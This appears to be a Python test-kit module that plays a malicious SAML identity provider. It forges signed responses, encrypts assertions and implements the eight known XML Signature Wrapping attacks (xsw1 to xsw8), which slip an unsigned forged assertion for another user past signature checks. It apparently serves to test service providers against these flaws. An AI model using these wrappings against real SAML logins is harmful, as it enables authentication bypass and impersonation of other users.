"""An adversary that speaks SAML: makes responses as an identity provider does, and spoils them in every known way."""

from __future__ import annotations

import base64
import copy
from collections.abc import Callable, Mapping
from dataclasses import dataclass, field
from datetime import UTC, datetime, timedelta
from typing import Any

import xmlsec
from lxml import etree

from ensign_testkit.saml_keys import Signer

SAML = "urn:oasis:names:tc:SAML:2.0:assertion"
SAMLP = "urn:oasis:names:tc:SAML:2.0:protocol"
DS = "http://www.w3.org/2000/09/xmldsig#"
NAMES = {"saml": SAML, "samlp": SAMLP, "ds": DS}
PERSISTENT = "urn:oasis:names:tc:SAML:2.0:nameid-format:persistent"
PASSWORD = "urn:oasis:names:tc:SAML:2.0:ac:classes:PasswordProtectedTransport"
ATTRIBUTES = {"email": ["anna.berg@example.com"], "displayName": ["Anna Berg"], "groups": ["engineering"]}


@dataclass
class Forge:
    """An identity provider called ``entity_id`` that signs with ``signer``, for the service provider at ``base``."""

    signer: Signer
    entity_id: str
    base: str
    count: int = field(default=0)

    def draft(
        self,
        *,
        in_response_to: str | None = "_request",
        name_id: str = "anna-0001",
        name_format: str = PERSISTENT,
        attributes: Mapping[str, list[str]] = ATTRIBUTES,
        at: datetime | None = None,
        lasts: timedelta = timedelta(minutes=5),
        audience: str | None = None,
        recipient: str | None = None,
        destination: str | None = None,
        issuer: str | None = None,
        context: str = PASSWORD,
        session_ends: datetime | None = None,
        session_index: str = "_session",
        assertion_id: str | None = None,
    ) -> str:
        """An unsigned response, right unless told otherwise."""
        self.count += 1
        now = at or datetime.now(UTC)
        number = f"{self.count}{now.strftime('%H%M%S%f')}"
        asked = "" if in_response_to is None else f' InResponseTo="{in_response_to}"'
        session = "" if session_ends is None else f' SessionNotOnOrAfter="{_time(session_ends)}"'
        ends, acs = _time(now + lasts), f"{self.base}/acs"
        values = "".join(
            f'<saml:Attribute Name="{name}">'
            + "".join(f"<saml:AttributeValue>{value}</saml:AttributeValue>" for value in listed)
            + "</saml:Attribute>"
            for name, listed in attributes.items()
        )
        return (
            f'<samlp:Response xmlns:samlp="{SAMLP}" xmlns:saml="{SAML}" ID="_r{number}" Version="2.0"'
            f' IssueInstant="{_time(now)}" Destination="{destination or acs}"{asked}>'
            f"<saml:Issuer>{issuer or self.entity_id}</saml:Issuer>"
            '<samlp:Status><samlp:StatusCode Value="urn:oasis:names:tc:SAML:2.0:status:Success"/></samlp:Status>'
            f'<saml:Assertion ID="{assertion_id or "_a" + number}" Version="2.0" IssueInstant="{_time(now)}">'
            f"<saml:Issuer>{issuer or self.entity_id}</saml:Issuer>"
            f'<saml:Subject><saml:NameID Format="{name_format}">{name_id}</saml:NameID>'
            '<saml:SubjectConfirmation Method="urn:oasis:names:tc:SAML:2.0:cm:bearer">'
            f'<saml:SubjectConfirmationData Recipient="{recipient or acs}" NotOnOrAfter="{ends}"{asked}/>'
            "</saml:SubjectConfirmation></saml:Subject>"
            f'<saml:Conditions NotBefore="{_time(now - timedelta(seconds=30))}" NotOnOrAfter="{ends}">'
            f"<saml:AudienceRestriction><saml:Audience>{audience or self.base + '/metadata'}</saml:Audience>"
            "</saml:AudienceRestriction></saml:Conditions>"
            f'<saml:AuthnStatement AuthnInstant="{_time(now)}" SessionIndex="{session_index}"{session}>'
            f"<saml:AuthnContext><saml:AuthnContextClassRef>{context}</saml:AuthnContextClassRef>"
            "</saml:AuthnContext></saml:AuthnStatement>"
            + (f"<saml:AttributeStatement>{values}</saml:AttributeStatement>" if values else "")
            + "</saml:Assertion></samlp:Response>"
        )

    def response(self, *, assertion: bool = True, message: bool = True, **more: Any) -> etree._Element:
        """A response, signed as asked."""
        root = etree.fromstring(self.draft(**more).encode())
        return self.signed(root, assertion=assertion, message=message)

    def signed(self, root: etree._Element, *, assertion: bool = True, message: bool = True) -> etree._Element:
        """``root`` with signatures by our key, the assertion's first."""
        found = root.find(f"{{{SAML}}}Assertion")
        if assertion and found is not None:
            sign(found, self.signer)
        if message:
            sign(root, self.signer)
        return etree.fromstring(etree.tostring(root))


def sign(
    element: etree._Element,
    signer: Signer,
    *,
    method: Any = xmlsec.Transform.RSA_SHA256,
    digest: Any = xmlsec.Transform.SHA256,
    canonical: Any = xmlsec.Transform.EXCL_C14N,
    uri: str | None = None,
    key: xmlsec.Key | None = None,
) -> etree._Element:
    """Put a signature over ``element`` (or over the ID in ``uri``) after its issuer; returns the signature."""
    signature = xmlsec.template.create(element, canonical, method, ns="ds")
    element.find(f"{{{SAML}}}Issuer").addnext(signature)
    reference = xmlsec.template.add_reference(signature, digest, uri=uri or f"#{element.get('ID')}")
    xmlsec.template.add_transform(reference, xmlsec.Transform.ENVELOPED)
    xmlsec.template.add_transform(reference, canonical)
    context = xmlsec.SignatureContext()
    if key is None:
        xmlsec.template.add_x509_data(xmlsec.template.ensure_key_info(signature))
        key = xmlsec.Key.from_memory(signer.key_pem, xmlsec.KeyFormat.PEM, None)
        key.load_cert_from_memory(signer.certificate_pem, xmlsec.KeyFormat.PEM)
    context.key = key
    xmlsec.tree.add_ids(element.getroottree().getroot(), ["ID"])
    context.sign(signature)
    return signature


def encrypted(root: etree._Element, certificate_pem: str, *, cipher: Any = xmlsec.Transform.AES256) -> etree._Element:
    """``root`` with its assertion encrypted for the certificate's owner; sign the response afterwards."""
    assertion = root.find(f"{{{SAML}}}Assertion")
    holder = etree.SubElement(root, f"{{{SAML}}}EncryptedAssertion")
    holder.append(assertion)
    manager = xmlsec.KeysManager()
    manager.add_key(xmlsec.Key.from_memory(certificate_pem, xmlsec.KeyFormat.CERT_PEM, None))
    template = xmlsec.template.encrypted_data_create(root, cipher, type=xmlsec.EncryptionType.ELEMENT, ns="xenc")
    xmlsec.template.encrypted_data_ensure_cipher_value(template)
    info = xmlsec.template.encrypted_data_ensure_key_info(template, ns="ds")
    key = xmlsec.template.add_encrypted_key(info, xmlsec.Transform.RSA_OAEP)
    xmlsec.template.encrypted_data_ensure_cipher_value(key)
    context = xmlsec.EncryptionContext(manager)
    bits = 128 if cipher in (xmlsec.Transform.AES128, xmlsec.Transform.AES128_GCM) else 256
    context.key = xmlsec.Key.generate(xmlsec.KeyData.AES, bits, xmlsec.KeyDataType.SESSION)
    context.encrypt_xml(template, assertion)
    return etree.fromstring(etree.tostring(root))


def field_of(root: etree._Element | bytes | str) -> str:
    """The form field."""
    raw = root.encode() if isinstance(root, str) else root if isinstance(root, bytes) else etree.tostring(root)
    return base64.b64encode(raw).decode()


def evil(assertion: etree._Element, *, name: str = "eve-0666") -> etree._Element:
    """A copy of an assertion that names somebody else, without a signature, under another ID."""
    forged = copy.deepcopy(assertion)
    forged.set("ID", "_evil")
    for signature in forged.findall(f"{{{DS}}}Signature"):
        forged.remove(signature)
    forged.find(f".//{{{SAML}}}NameID").text = name
    for value in forged.iter(f"{{{SAML}}}AttributeValue"):
        if "@" in (value.text or ""):
            value.text = "eve@example.com"
    return forged


def _parts(root: etree._Element) -> tuple[etree._Element, etree._Element]:
    assertion = root.find(f"{{{SAML}}}Assertion")
    return assertion, assertion.find(f"{{{DS}}}Signature")


def _whole(root: etree._Element, *, inside: bool) -> etree._Element:
    """1 and 2: a forged response around the signed one."""
    signature = root.find(f"{{{DS}}}Signature")
    forged = copy.deepcopy(root)
    forged.set("ID", "_evil_response")
    assertion = forged.find(f"{{{SAML}}}Assertion")
    assertion.getparent().replace(assertion, evil(assertion))
    original = copy.deepcopy(root)
    original.remove(original.find(f"{{{DS}}}Signature"))
    own = forged.find(f"{{{DS}}}Signature")
    if inside:
        own.append(original)
    else:
        own.addprevious(original)
    assert signature is not None
    return forged


def _xsw3(root: etree._Element) -> etree._Element:
    assertion, _ = _parts(root)
    assertion.addprevious(evil(assertion))
    return root


def _xsw4(root: etree._Element) -> etree._Element:
    assertion, _ = _parts(root)
    forged = evil(assertion)
    root.replace(assertion, forged)
    forged.append(assertion)
    return root


def _xsw5(root: etree._Element) -> etree._Element:
    assertion, signature = _parts(root)
    original = copy.deepcopy(assertion)
    original.remove(original.find(f"{{{DS}}}Signature"))
    forged = evil(assertion)
    forged.insert(1, signature)
    root.replace(assertion, forged)
    root.append(original)
    return root


def _xsw6(root: etree._Element) -> etree._Element:
    assertion, signature = _parts(root)
    original = copy.deepcopy(assertion)
    original.remove(original.find(f"{{{DS}}}Signature"))
    forged = evil(assertion)
    forged.insert(1, signature)
    signature.append(original)
    root.replace(assertion, forged)
    return root


def _xsw7(root: etree._Element) -> etree._Element:
    assertion, _ = _parts(root)
    extensions = etree.Element(f"{{{SAMLP}}}Extensions")
    extensions.append(evil(assertion))
    root.find(f"{{{SAML}}}Issuer").addnext(extensions)
    return root


def _xsw8(root: etree._Element) -> etree._Element:
    assertion, signature = _parts(root)
    original = copy.deepcopy(assertion)
    original.remove(original.find(f"{{{DS}}}Signature"))
    forged = evil(assertion)
    forged.insert(1, signature)
    holder = etree.SubElement(signature, f"{{{DS}}}Object")
    holder.append(original)
    root.replace(assertion, forged)
    return root


#: Signature wrapping as collected by Somorovsky et al., "On Breaking SAML" (2012); each keeps a right signature.
WRAPPINGS: Mapping[str, Callable[[etree._Element], etree._Element]] = {
    "xsw1": lambda root: _whole(root, inside=True),
    "xsw2": lambda root: _whole(root, inside=False),
    "xsw3": _xsw3,
    "xsw4": _xsw4,
    "xsw5": _xsw5,
    "xsw6": _xsw6,
    "xsw7": _xsw7,
    "xsw8": _xsw8,
}


def _time(at: datetime) -> str:
    return at.astimezone(UTC).strftime("%Y-%m-%dT%H:%M:%SZ")
